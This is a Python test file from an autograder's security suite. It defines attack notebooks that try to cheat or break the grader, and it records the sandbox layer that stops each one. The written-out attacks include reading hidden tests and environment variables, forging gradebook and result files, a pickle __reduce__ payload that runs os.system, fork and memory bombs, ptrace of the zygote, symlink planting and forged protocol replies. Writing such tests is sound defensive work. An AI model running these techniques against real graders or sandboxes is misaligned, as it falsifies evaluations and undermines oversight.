"""The attack corpus: submissions that try to cheat or break the grader.

Each :class:`Attack` is a notebook (its cells, as sources or ``(source, role)``
pairs) for a small purpose-made exercise, ``fake``: q1 ``add(a, b)`` on secret
random arrays (2 points), q2 ``predict(X)`` on a secret, noisy subsample of the
moons test set (3 points, threshold 0.9). ``earned`` is what the submission
must end with: the points of its honest parts and nothing more. Placeholders
``@COURSE@``, ``@OUT@``, ``@SUBS@``, ``@SECRETFILE@``, ``@CANARY@``, ``@MARKER@``
and ``@PKG@`` are filled in with the test's paths. ``docs/security.md`` lists
every attack by name (a test keeps them in step).
"""
from __future__ import annotations

from dataclasses import dataclass

from dlgrade.harness import expect_array, question

SECRET = "SECRET-7f3a9c"
"""Written into every file and variable the sandbox must not reveal."""


@question("q1", points=2, title="add() adds arrays element-wise")
def q1(sub, t):
    rng = t.ctx.rng("q1")
    a, b = rng.normal(size=5), rng.normal(size=5)
    out = expect_array(sub.call("add", a, b), what="add(a, b)", shape=(5,))
    t.close(out, a + b, "add(a, b) equals a + b", points=2)


@question("q2", points=3, title="predict() classifies held-out moons")
def q2(sub, t):
    X, y = t.ctx.heldout("moons", 100)
    labels = expect_array(sub.call("predict", X), what="predict(X)", shape=(100,))
    t.at_least("moons_accuracy", float((labels == y).mean()), "accuracy on held-out moons", points=3)


QUESTIONS = [q1.__dlgrade_question__, q2.__dlgrade_question__]

SETUP = ("import numpy as np\nDLGRADE_EXERCISE = 'fake'", "setup")
CHECK = ("check('q1')", "check")
ADD_STUB = ("def add(a, b):\n    raise NotImplementedError('add the arrays')", "answer")
PREDICT_STUB = ("def predict(X):\n    raise NotImplementedError('classify X')", "answer")
TEMPLATE = (SETUP, ADD_STUB, PREDICT_STUB, CHECK)
"""The assignment: setup and check cells are locked."""

ADD = "def add(a, b):\n    return np.asarray(a) + np.asarray(b)"
PREDICT = """from sklearn.neighbors import KNeighborsClassifier
from dlgrade.data import load
_moons = load('moons')
_knn = KNeighborsClassifier(5).fit(_moons.X_train.numpy(), _moons.y_train.numpy())

def predict(X):
    return _knn.predict(np.asarray(X))"""
WRONG_ADD = "def add(a, b):\n    return np.zeros(5)"
WRONG_PREDICT = "def predict(X):\n    return np.zeros(len(X), dtype=int)"


def notebook(add=ADD, predict=PREDICT, *extra, setup=SETUP, check=CHECK) -> tuple:
    """The student's cells: the template's four, answered, then ``extra`` cells."""
    return (setup, (add, "answer"), (predict, "answer"), check, *extra)


def in_function(body: str, name: str = "add", args: str = "a, b") -> str:
    """``def name(args):`` around ``body`` (indented)."""
    return f"def {name}({args}):\n" + "\n".join("    " + line for line in body.splitlines())


@dataclass(frozen=True)
class Attack:
    """One adversarial submission and what must happen to it."""

    name: str
    tries: str
    """What it tries, in a few words (the docs table's second column)."""
    stopped_by: str
    """Which layer stops it."""
    cells: tuple
    earned: float
    """Points it must end with: its honest parts only."""
    expect: str = ""
    """Text the feedback must contain (a question's error, a cell's message, a failed check)."""
    probe: str = ""
    """A notebook function whose result must not contain :data:`SECRET`."""
    time_limit: float = 4.0
    request_timeout: float = 3.0
    clean_after: bool = False
    """Check that nothing of it is left in the sandbox for the next student."""


READ_TREE = '''import os

def _read(top, out):
    if os.path.isfile(top):
        try:
            out.append(open(top, errors="replace").read(100000))
        except OSError as exc:
            out.append(f"{top}: {exc}")
        return
    for folder, _, files in os.walk(top, onerror=lambda exc: out.append(str(exc))):
        for name in files[:50]:
            _read(os.path.join(folder, name), out)
'''

LEAK_FILES = READ_TREE + '''
def leak():
    out = []
    for top in ["@COURSE@", "@COURSE@/autograder/fake/tests.py", "@COURSE@/autograder/fake/thresholds/quick.yaml",
                "@COURSE@/solutions", "@COURSE@/quizzes", "@COURSE@/.git", "/proc/1/root@COURSE@",
                "/proc/self/root@COURSE@/autograder"]:
        _read(top, out)
    return "\\n".join(out)[:400000]
'''

LEAK_OUTPUTS = READ_TREE + '''
def leak():
    out = []
    for top in ["@OUT@", "@OUT@/results/bob.json", "@SUBS@", "@SUBS@/bob.ipynb", "@SECRETFILE@"]:
        _read(top, out)
    return "\\n".join(out)
'''

LEAK_ENV = '''import os

def leak():
    out = [repr(dict(os.environ))]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for what in ("environ", "cmdline"):
                try:
                    out.append(open(f"/proc/{pid}/{what}", "rb").read().decode(errors="replace"))
                except OSError as exc:
                    out.append(f"{pid}/{what}: {exc}")
    return "\\n".join(out)
'''

WRITE_GRADER_FILES = '''import os, pathlib

def leak():
    out = []
    for target in ["@OUT@/results/mallory.json", "@OUT@/journal.jsonl", "@OUT@/gradebook.csv",
                   "@COURSE@/autograder/fake/thresholds/quick.yaml", "@PKG@/harness/_attack_probe.txt",
                   "@COURSE@/../_attack_probe.txt"]:
        try:
            pathlib.Path(target).parent.mkdir(parents=True, exist_ok=True)
            with open(target, "a") as fh:
                fh.write('{"student": "mallory", "earned": 5, "points": 5}\\n')
            out.append(f"WROTE {target}")
        except OSError as exc:
            out.append(f"{target}: {exc}")
    return "\\n".join(out)

leak()
'''

WRITE_OTHERS = WRITE_GRADER_FILES.replace(
    '["@OUT@/results/mallory.json", "@OUT@/journal.jsonl", "@OUT@/gradebook.csv",',
    '["@OUT@/results/bob.json", "@SUBS@/bob.ipynb", "@SUBS@/carol.ipynb",')

NETWORK = '''import socket, urllib.request

def leak():
    out = []
    tries = {
        "tcp": lambda: socket.create_connection(("1.1.1.1", 80), timeout=1),
        "inet": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM),
        "inet6": lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM),
        "netlink": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW),
        "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
        "http": lambda: urllib.request.urlopen("http://example.com", timeout=1),
    }
    for name, attempt in tries.items():
        try:
            attempt()
            out.append(f"{name}: CONNECTED")
        except Exception as exc:
            out.append(f"{name}: blocked ({exc})")
    return out
'''

EVIL = '''import os

class Evil:
    def __reduce__(self):
        return (os.system, ("touch @MARKER@",))

def add(a, b):
    return Evil()

def predict(X):
    return np.array([Evil() for _ in range(len(X))], dtype=object)
'''

HARDCODED = '''from dlgrade.data import load
_labels = load("moons").y_test.numpy()

def predict(X):
    return _labels[:len(X)]'''

BACKGROUND = '''import os, subprocess, sys, time
LOOP = """
import os, time
while True:
    for folder in ("/tmp", "/dev/shm", "/run/dlgrade/box"):
        try:
            for sub in [folder] + [os.path.join(folder, d, "io") for d in os.listdir(folder)]:
                open(os.path.join(sub, "s0.npy"), "w").write("planted")
        except OSError:
            pass
    time.sleep(0.05)
"""
subprocess.Popen([sys.executable, "-c", LOOP], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3600)
    os._exit(0)
'''

FAKE_REPLIES = '''import json, os, sys
for seq in range(1, 5):
    line = json.dumps({"seq": seq, "ok": True, "value": {"__ndarray__": "s0.npy", "torch": False}})
    print(line)
    print(line, file=sys.stderr)

def add(a, b):
    for fd in map(int, os.listdir("/proc/self/fd")):
        for seq in (100, 101, 102):
            try:
                os.write(fd, (json.dumps({"seq": seq, "ok": True, "value": [0.0] * 5}) + "\\n").encode())
            except OSError:
                pass
    return np.zeros(5)
'''

EXCHANGE_LINKS = '''import os
from dlgrade.harness import values

_io = os.path.join(os.getcwd(), "..", "io")
for n in range(64):
    os.symlink("@CANARY@", os.path.join(_io, f"g{n}.npy"))
_made = []

def _put(self, array):
    name = f"s{len(_made)}.npy"
    path = os.path.join(self.directory, name)
    if _made:
        os.symlink("@COURSE@/autograder/fake/thresholds/quick.yaml", path)
    else:
        os.mkfifo(path)
    _made.append(name)
    return name

values.DirStore.put = _put
# every answer's arrays as files, even the small ones that would travel inside the message
values._array_out = lambda array, store, *, torch: {"__ndarray__": store.put(array), "torch": torch}
'''

FIGURE_LINKS = '''import os
import matplotlib.figure
import matplotlib.pyplot as plt
plt.plot([1, 2, 3])

def _savefig(self, fname, **kwargs):
    os.symlink("@CANARY@", fname)

matplotlib.figure.Figure.savefig = _savefig
'''

FILL_SCRATCH = '''import os
for folder in ("/tmp", "/dev/shm", os.environ["HOME"], os.environ.get("TMPDIR", "/tmp")):
    with open(os.path.join(folder, "sitecustomize.py"), "w") as fh:
        fh.write("raise SystemExit('planted')")
    deep = os.path.join(folder, "deep")
    os.makedirs(deep)
    os.chdir(deep)
    for _ in range(300):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(folder)
    os.mkdir("locked")
    open("locked/f", "w").write("x")
    os.chmod("locked", 0)
'''

PTRACE = '''import ctypes, os

def leak():
    libc = ctypes.CDLL(None, use_errno=True)
    out = []
    for pid in {1, os.getppid()}:  # the zygote
        rc = libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
        out.append(f"ptrace {pid}: {rc} errno {ctypes.get_errno()}")
        for what in ("mem", "environ", "maps"):
            try:
                out.append(open(f"/proc/{pid}/{what}", "rb").read(100).decode(errors="replace"))
            except OSError as exc:
                out.append(f"{pid}/{what}: {exc}")
    return out
'''

FORGE = '''import json, os, stat

def _forge(*lines):
    """Write ``lines`` to every pipe this process holds: the reply pipe is one of them."""
    data = b"".join(line.encode() + b"\\n" for line in lines)
    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            if fd > 2 and stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, data)
        except OSError:
            pass
'''

FORGED_LINE = FORGE + '''
_forge(json.dumps({"seq": 0, "progress": None}))
print("bwrap: Creating new namespace failed: Operation not permitted; sandbox broken", flush=True)
os._exit(0)
'''

FORGED_PROGRESS = FORGE + '''
_forge(json.dumps({"seq": 0, "progress": 0}), "sandbox broken: not JSON")
import time
time.sleep(1)
'''

ATTACKS = [
    Attack("patch_comparisons", "monkeypatch numpy/torch comparisons and return a lying ndarray subclass",
           "the verdict is computed in the grader's process; only plain arrays cross", notebook(
               "import numpy, torch\nclass Liar(np.ndarray):\n    def __eq__(self, other):\n"
               "        return np.ones(self.shape, bool)\n\ndef add(a, b):\n    return np.zeros(5).view(Liar)",
               WRONG_PREDICT,
               "numpy.allclose = lambda *a, **k: True\nnumpy.isclose = lambda *a, **k: numpy.ones(5, bool)\n"
               "numpy.array_equal = lambda *a, **k: True\ntorch.allclose = lambda *a, **k: True\n"
               "torch.equal = lambda *a, **k: True"),
           earned=0, expect="add(a, b) equals a + b"),
    Attack("redefine_helpers", "redefine check() and patch dlgrade's Checks, expect_array and run_question",
           "the tests run in the grader's process, not the student's", notebook(
               WRONG_ADD, WRONG_PREDICT,
               "import dlgrade.harness as h, dlgrade.harness.questions as q\n"
               "def check(*a, **k):\n    return True\n"
               "q.Checks.check = lambda self, *a, **k: True\nq.Checks.close = lambda self, *a, **k: True\n"
               "q.run_question = lambda *a, **k: None\nh.expect_array = lambda value, **k: value"),
           earned=0, expect="accuracy on held-out moons"),
    Attack("read_hidden_tests", "read the hidden tests, thresholds, solutions, quizzes and .git of the course",
           "bubblewrap allow-list: only the public assignments of the course are visible", notebook(ADD, PREDICT, LEAK_FILES),
           earned=5, probe="leak"),
    Attack("read_grader_outputs", "read other students' results and submissions and the grader's secret file",
           "bubblewrap allow-list: outputs and submissions are not in the view", notebook(ADD, PREDICT, LEAK_OUTPUTS),
           earned=5, probe="leak"),
    Attack("read_environment", "read the grader's environment and other processes' environ/cmdline",
           "scrubbed environment (--clearenv); PID namespace; non-dumpable zygote",
           notebook(ADD, PREDICT, LEAK_ENV), earned=5, probe="leak"),
    Attack("write_fake_results", "write fake result, journal and gradebook files, lower a threshold, plant code",
           "read-only allow-list view (EROFS); outputs are not in it", notebook(ADD, PREDICT, WRITE_GRADER_FILES),
           earned=5, probe="leak"),
    Attack("write_other_students", "overwrite other students' results and submissions (hidden_paths)",
           "bubblewrap allow-list: other students' files are not in the view", notebook(ADD, PREDICT, WRITE_OTHERS),
           earned=5, probe="leak"),
    Attack("os_exit_cell", "os._exit(0) in a notebook cell to end the run early",
           "the grader sees the process die, skips that cell and runs the notebook again",
           notebook(ADD, PREDICT, "import os\nos._exit(0)", "late = 42"), earned=5,
           expect="stopped the notebook's process"),
    Attack("os_exit_function", "os._exit(0) inside a graded function", "crash detected; the next question gets "
           "a fresh process", notebook(in_function("import os\nos._exit(0)"), PREDICT), earned=3,
           expect="exited with code 0"),
    Attack("sys_exit_function", "sys.exit() inside a graded function", "SystemExit caught in the child",
           notebook(in_function("import sys\nsys.exit(0)"), PREDICT), earned=3, expect="sys.exit(0)"),
    Attack("infinite_loop_cell", "an endless loop in a notebook cell", "notebook time limit; the cell is "
           "killed and skipped", notebook(ADD, PREDICT, "while True:\n    pass"), earned=5, expect="time limit"),
    Attack("infinite_loop_function", "an endless loop in a graded function", "request timeout; process tree "
           "killed", notebook(in_function("while True:\n    pass"), PREDICT), earned=3, expect="took longer than"),
    Attack("ignore_sigterm", "ignore SIGTERM/SIGINT and hang", "SIGKILL (kill(-1) in the PID namespace)",
           notebook(in_function("import signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
                                "signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    time.sleep(1)"),
                    PREDICT), earned=3, expect="took longer than"),
    Attack("sleep_stall", "sleep in a cell and in every function to stall the batch",
           "notebook time limit and request timeouts bound the submission's time",
           notebook(in_function("import time\ntime.sleep(3600)"),
                    in_function("import time\ntime.sleep(3600)", "predict", "X"), "import time\ntime.sleep(3600)"),
           earned=0, expect="took longer than", time_limit=2.0),
    Attack("fork_bomb", "fork processes without end", "pids cgroup and RLIMIT_NPROC; timeout; kill(-1)",
           notebook(in_function("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n"
                                "        pass"), PREDICT), earned=3, expect="took longer than", clean_after=True),
    Attack("memory_bomb", "allocate 3 GiB", "memory cgroup (RLIMIT_AS without one); OOM killer picks the child",
           notebook(in_function("x = np.ones(3 << 30, dtype=np.uint8)\nreturn x[:5]"), PREDICT), earned=3,
           expect="ran out of memory", request_timeout=30),
    Attack("output_flood", "write 2 GiB to stdout and stderr", "output drained by the zygote into a capped buffer",
           notebook(ADD, PREDICT, "import os\nfor fd in (1, 2):\n    for _ in range(1024):\n"
                                  "        os.write(fd, b'x' * (1 << 20))"), earned=5, time_limit=30),
    Attack("open_socket", "reach the network: TCP, UDP, IPv6, netlink, raw packets, HTTP",
           "network namespace (no interfaces but lo) and seccomp socket filter", notebook(ADD, PREDICT, NETWORK),
           earned=5, probe="leak"),
    Attack("pickle_payload", "return objects whose unpickling runs code (__reduce__), object arrays",
           "only JSON and .npy with allow_pickle=False cross; objects stay as Refs", notebook(
               "pass", "pass", EVIL), earned=0, expect="should be an array"),
    Attack("hardcoded_labels", "return the test labels in their stored order",
           "the test split is never loaded on the student's side; ctx.heldout: a secret, per-student "
           "subsample with noise", notebook(ADD, HARDCODED), earned=2,
           expect="the test split is kept by the grader"),
    Attack("edit_protected_cells", "edit the locked setup and check cells to pass the tests and patch numpy",
           "sanitizing: locked cells restored from the template (restore_locked)", notebook(
               ADD_STUB[0], PREDICT_STUB[0],
               setup="import numpy as np\nnp.allclose = lambda *a, **k: True\nDLGRADE_EXERCISE = 'fake'\n" + ADD,
               check=(PREDICT, "answer")), earned=0, expect="was edited; the original was restored"),
    Attack("setsid_background", "setsid + double fork a process that outlives the submission and plants files",
           "kill(-1) in the PID namespace after each submission; scratch folders emptied",
           notebook(ADD, PREDICT, BACKGROUND), earned=5, clean_after=True),
    Attack("fake_protocol_replies", "print fake replies to stdout/stderr and write them to every descriptor",
           "protocol on its own pipes; replies validated (keys, sequence number)",
           notebook(FAKE_REPLIES, PREDICT), earned=3, expect="invalid reply"),
    Attack("kill_sandbox", "kill or stop every process it can see, the zygote included",
           "the zygote is the PID namespace's init: signals from inside do not reach it; request timeout",
           notebook(in_function("import os, signal, time\nfor sig in (signal.SIGSTOP, signal.SIGKILL):\n"
                                "    for pid in (-1, 1, os.getppid()):\n        try:\n"
                                "            os.kill(pid, sig)\n        except OSError:\n            pass\n"
                                "time.sleep(60)"), PREDICT),
           earned=3, expect="took longer than", clean_after=True),
    Attack("exchange_links", "plant links to grader files and FIFOs in the exchange folder",
           "the grader opens files by descriptor with O_NOFOLLOW, O_NONBLOCK, O_EXCL",
           notebook(ADD, PREDICT, EXCHANGE_LINKS), earned=0, expect="not a regular file"),
    Attack("figure_links", "make the saved figure a link to a grader file", "figures copied with O_NOFOLLOW, "
           "checked as small PNGs", notebook(ADD, PREDICT, FIGURE_LINKS), earned=5),
    Attack("huge_answer", "return a list of two million numbers", "value size limits in the encoding",
           notebook(in_function("return list(range(2_000_000))"), PREDICT), earned=3, expect="too long"),
    Attack("fill_scratch", "leave files (a sitecustomize.py, deep and locked folders) for the next student",
           "/tmp, /dev/shm and the work folders emptied after each submission", notebook(ADD, PREDICT, FILL_SCRATCH),
           earned=5, clean_after=True),
    Attack("ptrace_zygote", "ptrace the zygote or read its memory", "non-dumpable zygote; seccomp denies ptrace",
           notebook(ADD, PREDICT, PTRACE), earned=5, probe="leak"),
    Attack("forged_reply_line", "find the reply pipe in /proc/self/fd, write a forged line, print a fake "
           "sandbox error, exit", "whose fault it is is decided on the grader's side: student code runs only "
           "after a cell is announced, so that cell is blamed and skipped",
           notebook(ADD, PREDICT, FORGED_LINE, "late = 42"), earned=5, expect="stopped the notebook's process"),
    Attack("forged_progress", "announce an earlier cell on the reply pipe, then send a line that is not JSON",
           "announcements are accepted only in order; the running cell is blamed and skipped",
           notebook(ADD, PREDICT, FORGED_PROGRESS, "late = 42"), earned=5, expect="not JSON; it was skipped"),
]


def fill(source: str, paths: dict) -> str:
    for key, value in paths.items():
        source = source.replace(f"@{key}@", str(value))
    return source


def build_notebook(cells, paths: dict | None = None):
    """An nbformat notebook from cell sources or ``(source, role)`` pairs; ids c0, c1, ..."""
    import nbformat

    out = []
    for i, spec in enumerate(cells):
        source, *role = (spec,) if isinstance(spec, str) else spec
        cell = nbformat.v4.new_code_cell(fill(source, paths or {}))
        if role:
            cell.metadata["dlgrade"] = {"role": role[0]}
        cell["id"] = f"c{i}"
        out.append(cell)
    return nbformat.v4.new_notebook(cells=out)


def honest_points() -> float:
    return float(sum(q.points for q in QUESTIONS))
